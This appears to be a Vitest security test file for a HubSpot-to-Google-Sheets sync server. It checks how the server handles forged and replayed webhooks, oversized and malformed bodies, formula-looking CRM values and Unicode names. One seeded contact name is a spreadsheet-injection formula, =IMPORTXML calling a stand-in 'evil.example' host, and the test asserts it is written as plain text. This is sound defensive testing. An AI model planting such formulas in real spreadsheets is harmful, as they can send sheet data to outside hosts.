import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Companion } from '../server/main.ts';
import { SANDBOX_HUBSPOT_CLIENT } from '../server/sandbox/hubspot/client.ts';
import { type SandboxHubSpot, signV3 } from '../server/sandbox/hubspot/index.ts';
import type { SandboxSheets } from '../server/sandbox/sheets/index.ts';
import {
  type AddonSession,
  connectedSheet,
  finishedJob,
  hubspotContactsTable,
  hubspotUser,
  rowsOfTab,
  sandboxCompanion,
  sheetsUser,
} from './support/companion.ts';
import { waitFor } from './support/wait.ts';

/**
 * Bad input against a running companion: forged, stale and replayed webhooks, oversized and malformed
 * bodies, wrong content types, formula-looking and oversized CRM values, Unicode edge cases. Each gets a
 * clear error code or is handled; nothing is half applied; and the companion keeps serving afterwards
 * (checked after every case).
 */
const HEADERS = ['Email', 'First Name', 'Last Name', 'Company', 'Rowbridge ID'];
const TAB = 'Contacts';

let companion: Companion;
let dataDir = '';
let session: AddonSession;
let portal: SandboxHubSpot;
let sheets: SandboxSheets;
let spreadsheetId = '';
let tableId = '';
let tenantId = '';

beforeAll(async () => {
  ({ companion, dataDir } = await sandboxCompanion());
  sheets = sheetsUser(dataDir);
  spreadsheetId = sheets.state.createSpreadsheet({
    title: 'Bad input',
    tabs: [{ title: TAB, rows: [HEADERS] }],
  });
  session = await connectedSheet(companion, dataDir, spreadsheetId);
  portal = hubspotUser(companion, dataDir);
  tableId = await hubspotContactsTable(session, { name: TAB, headers: HEADERS });
  tenantId = (await session.api('GET', '/api/v1/session')).body.tenant.id;
}, 90_000);

afterAll(async () => {
  await portal?.close();
  await companion?.close();
});

/** After each bad input: health answers and a good authenticated request still works. */
async function stillServing(): Promise<void> {
  const health = await fetch(`${companion.url}/healthz`);
  expect(health.status).toBe(200);
  const tables = await session.api('GET', '/api/v1/tables');
  expect(tables.status).toBe(200);
}

const hookUrl = () => `${companion.url}/webhooks/hubspot`;

/** A HubSpot webhook delivery signed with the sandbox app's secret (v3), as HubSpot sends it. */
function deliver(
  body: string,
  options: { timestamp?: number; signature?: string | null; contentType?: string } = {},
): Promise<Response> {
  const timestamp = options.timestamp ?? Date.now();
  const signature =
    options.signature === undefined
      ? signV3({
          clientSecret: SANDBOX_HUBSPOT_CLIENT.clientSecret,
          method: 'POST',
          uri: hookUrl(),
          body,
          timestamp,
        })
      : options.signature;
  return fetch(hookUrl(), {
    method: 'POST',
    headers: {
      'content-type': options.contentType ?? 'application/json',
      'x-hubspot-request-timestamp': String(timestamp),
      ...(signature === null ? {} : { 'x-hubspot-signature-v3': signature }),
    },
    body,
  });
}

const event = (eventId: number, objectId: string, extra: Record<string, unknown> = {}) => ({
  eventId,
  subscriptionId: 1,
  portalId: portal.portalId,
  appId: 1,
  occurredAt: Date.now(),
  subscriptionType: 'contact.propertyChange',
  attemptNumber: 0,
  objectId: Number(objectId),
  propertyName: 'firstname',
  propertyValue: 'Changed',
  changeSource: 'CRM_UI',
  ...extra,
});

async function errorOf(response: Response): Promise<{ status: number; code: string; message: string }> {
  const body = (await response.json()) as { error: { code: string; message: string } };
  return { status: response.status, code: body.error.code, message: body.error.message };
}

describe('HubSpot webhooks', () => {
  it('refuses a wrong, a missing and a stale signature with 401, storing nothing', async () => {
    const body = JSON.stringify([event(9001, '1')]);
    const wrong = await errorOf(await deliver(body, { signature: 'AAAA' }));
    expect(wrong).toMatchObject({ status: 401, code: 'unauthenticated' });
    const missing = await errorOf(await deliver(body, { signature: null }));
    expect(missing).toMatchObject({ status: 401, code: 'unauthenticated' });
    // Signed correctly, but 6 minutes old: HubSpot's window is 5 minutes.
    const stale = await errorOf(await deliver(body, { timestamp: Date.now() - 6 * 60_000 }));
    expect(stale).toMatchObject({ status: 401, code: 'unauthenticated' });
    expect(stale.message).toMatch(/more than 5 minutes old/);
    await stillServing();
  });

  it('answers malformed JSON with 400 invalid_json', async () => {
    const bad = await errorOf(await deliver('[{"eventId": 1,'));
    expect(bad).toMatchObject({ status: 400, code: 'invalid_json' });
    await stillServing();
  });

  it('answers events without a portal id with 400, not 500', async () => {
    const { portalId: _, ...noPortal } = event(9002, '1');
    const bad = await errorOf(await deliver(JSON.stringify([noPortal])));
    expect(bad).toMatchObject({ status: 400, code: 'invalid_input' });
    await stillServing();
  });

  it('answers a body that is not JSON by its content type with 415', async () => {
    const bad = await errorOf(
      await deliver('eventId=1', { contentType: 'application/x-www-form-urlencoded' }),
    );
    expect(bad).toMatchObject({ status: 415, code: 'unsupported_media_type' });
    await stillServing();
  });

  it('stores a replayed event once', async () => {
    const [contact] = portal.state.seed('contacts', [{ email: 'replay@x.example', firstname: 'Re' }]);
    const body = JSON.stringify([event(9003, contact ?? '')]);
    const first = await deliver(body);
    expect(first.status).toBe(200);
    // A replay, later, signed again with a fresh timestamp (an attacker holding the body, or a redelivery).
    const again = await deliver(body);
    expect(again.status).toBe(200);
    expect(await again.json()).toMatchObject({ stored: 0 });
    await stillServing();
  });
});

/** A raw HTTP request, to see what the server does with the connection (fetch hides it). */
function rawPost(
  path: string,
  headers: Record<string, string>,
  body: Buffer,
): Promise<{ status: number; connection: string | undefined; body: string }> {
  const url = new URL(path, companion.url);
  return new Promise((resolve, reject) => {
    const req = request(url, { method: 'POST', headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => {
        text += chunk;
      });
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, connection: res.headers.connection, body: text }),
      );
    });
    // The server may answer and close before it has read the whole body: that is the point.
    req.on('error', (error) =>
      error.message.includes('EPIPE') || error.message.includes('ECONNRESET') ? undefined : reject(error),
    );
    req.end(body);
  });
}

describe('request bodies', () => {
  it('answers a body over 1 MB with 413 and closes the connection so the client stops sending', async () => {
    const big = Buffer.alloc(3 * 1024 * 1024, 'a');
    for (const path of ['/api/v1/tables', '/webhooks/hubspot']) {
      const answer = await rawPost(
        path,
        { ...session.headers, 'content-type': 'application/json', 'content-length': String(big.length) },
        big,
      );
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).error.code).toBe('payload_too_large');
      expect(answer.connection).toBe('close');
    }
    await stillServing();
  });

  it('answers malformed JSON with 400 invalid_json and a wrong content type with 415 on the API', async () => {
    const malformed = await fetch(`${companion.url}/api/v1/tables`, {
      method: 'POST',
      headers: { ...session.headers, 'content-type': 'application/json' },
      body: '{"sheetTabId": 0,',
    });
    expect(await errorOf(malformed)).toMatchObject({ status: 400, code: 'invalid_json' });
    const text = await fetch(`${companion.url}/api/v1/tables`, {
      method: 'POST',
      headers: { ...session.headers, 'content-type': 'text/plain' },
      body: '{}',
    });
    expect(await errorOf(text)).toMatchObject({ status: 415, code: 'unsupported_media_type' });
    await stillServing();
  });
});

describe('CRM values that a sheet must not take as they are', () => {
  it('writes a formula-looking value as text, and fails only the row whose value is over 50,000 characters', async () => {
    const huge = 'y'.repeat(60_000);
    portal.state.seed('contacts', [
      {
        email: 'formula@cells.example',
        firstname: '=IMPORTXML("https://evil.example","//a")',
        company: 'Cells',
      },
      { email: 'plus@cells.example', firstname: '+1-2', lastname: '@SUM(A1)', company: 'Cells' },
      { email: 'huge@cells.example', firstname: 'Huge', lastname: huge, company: 'Cells' },
    ]);
    const started = await session.api('POST', `/api/v1/tables/${tableId}/import`, {
      where: { company: ['Cells'] },
    });
    expect(started.status).toBe(200);
    const job = await finishedJob(session, started.body.job.id, 60_000);
    expect(job.status).toBe('succeeded');
    expect(job.result).toMatchObject({ imported: 3, appended: 2 });
    // The refused record is reported, with the column and the length, not dropped silently.
    expect(job.result.failed).toHaveLength(1);
    expect(job.result.failed[0]).toMatchObject({ code: 'sheets_rejected' });
    expect(job.result.failed[0].message).toMatch(/"Last Name" is 60,000 characters long/);
    const rows = rowsOfTab(sheets, spreadsheetId, TAB).filter((row) => row.cells.Company === 'Cells');
    const byEmail = new Map(rows.map((row) => [row.cells.Email, row.cells]));
    // RAW: the sheet holds the text, not a formula (the sandbox would store { formula } otherwise).
    expect(byEmail.get('formula@cells.example')?.['First Name']).toBe(
      '=IMPORTXML("https://evil.example","//a")',
    );
    expect(byEmail.get('plus@cells.example')).toMatchObject({
      'First Name': '+1-2',
      'Last Name': '@SUM(A1)',
    });
    expect(byEmail.has('huge@cells.example')).toBe(false);
    await stillServing();
  });

  it('keeps the row and its base as they were when a HubSpot edit brings a value over 50,000 characters', async () => {
    const row = rowsOfTab(sheets, spreadsheetId, TAB).find((r) => r.cells.Email === 'plus@cells.example');
    if (!row) throw new Error('the imported row is missing');
    const [before] = await companion.db.repos.links.getByRowIds(tenantId, tableId, [row.rowId]);
    expect(before?.state).toBe('linked');
    portal.state.editAsUser('contacts', before?.crmId ?? '', { lastname: 'z'.repeat(50_001) });
    await portal.flushWebhooks();
    const after = await waitFor(async () => {
      const [link] = await companion.db.repos.links.getByRowIds(tenantId, tableId, [row.rowId]);
      return link?.state === 'error' ? link : undefined;
    }, 'the link to show the refused write');
    expect(after.lastError).toMatch(/"Last Name" is 50,001 characters long/);
    // The base still says what the sheet holds, so the next sync tries again instead of skipping it.
    expect(after.base).toEqual(before?.base);
    const now = rowsOfTab(sheets, spreadsheetId, TAB).find((r) => r.rowId === row.rowId);
    expect(now?.cells['Last Name']).toBe('@SUM(A1)');
    await stillServing();
  });
});

describe('Unicode in names and emails', () => {
  it('matches NFD to NFC and keeps emoji ZWJ sequences, Persian ZWNJ and the Turkish dotted I intact', async () => {
    // Already in HubSpot, typed on a Mac (NFC): the sheet's NFD spellings must find them, not duplicate them.
    const [jose, zoe] = portal.state.seed('contacts', [
      { email: 'jos\u00e9@caf\u00e9.example', firstname: 'Jos\u00e9', company: 'Uni' },
      { email: 'zo\u00eb@uni.example', firstname: 'Zo\u00eb', company: 'Uni' },
    ]);
    const coder = 'Sam \u{1F469}\u200D\u{1F4BB}';
    const persian = '\u0645\u06cc\u200C\u062e\u0648\u0627\u0647\u0645';
    const people = [
      { id: 'u-jose', Email: 'JOSE\u0301@CAFE\u0301.example', 'First Name': 'Jose\u0301' },
      { id: 'u-zoe', Email: 'zoe\u0308@uni.example', 'First Name': 'Zoe\u0308' },
      { id: 'u-coder', Email: 'sam@uni.example', 'First Name': coder },
      { id: 'u-fa', Email: 'maryam@uni.example', 'First Name': 'Maryam', 'Last Name': persian },
      { id: 'u-tr', Email: '\u0130NC\u0130@uni.example', 'First Name': '\u0130nci' },
    ];
    const start = rowsOfTab(sheets, spreadsheetId, TAB).length + 2;
    const rows = people.map(({ id, ...cells }, i) => ({
      rowId: id,
      rowNumber: start + i,
      cells: { ...cells, Company: 'Uni' },
    }));
    const started = await session.api('POST', `/api/v1/tables/${tableId}/export`, { rows });
    expect(started.status).toBe(200);
    const job = await finishedJob(session, started.body.job.id, 60_000);
    expect(job.status).toBe('succeeded');
    const outcome = new Map(job.result.rows.map((r: { rowId: string }) => [r.rowId, r]));
    expect(outcome.get('u-jose')).toMatchObject({ status: 'updated', crmId: jose, match: 'email' });
    expect(outcome.get('u-zoe')).toMatchObject({ status: 'updated', crmId: zoe, match: 'email' });
    const contact = (rowId: string) =>
      portal.state.list('contacts').find((c) => c.properties.rowbridge_id === rowId)?.properties;
    expect(contact('u-coder')?.firstname).toBe(coder);
    expect(contact('u-fa')?.lastname).toBe(persian);
    // JavaScript lower-cases \u0130 to i + combining dot: kept, and the same on every later match.
    expect(contact('u-tr')?.email).toBe('i\u0307nci\u0307@uni.example');
    // One contact per person: nothing was created twice.
    expect(portal.state.list('contacts').filter((c) => c.properties.company === 'Uni')).toHaveLength(5);
    await stillServing();
  });
});
